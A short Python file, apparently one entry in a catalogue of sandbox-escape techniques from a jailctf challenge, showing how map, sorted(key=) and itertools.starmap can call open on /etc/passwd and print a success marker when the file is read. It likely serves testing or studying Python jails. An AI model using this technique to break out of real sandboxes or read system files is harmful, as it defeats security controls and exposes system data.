# escape: 012
# technique: map/filter/sorted(key=)/min(key=)/functools.reduce call a C function with no python frame of their own
# family: callback
# goal: read-file
# first-seen: jailctf 'functional'
a = next(map(open, ['/etc/passwd'])).readline()
b = sorted(['/etc/passwd'], key=open)
import itertools
c = next(itertools.starmap(open, [('/etc/passwd',)])).readline()
if 'root:' in a and 'root:' in c: print('ESCAPED:map(open)')
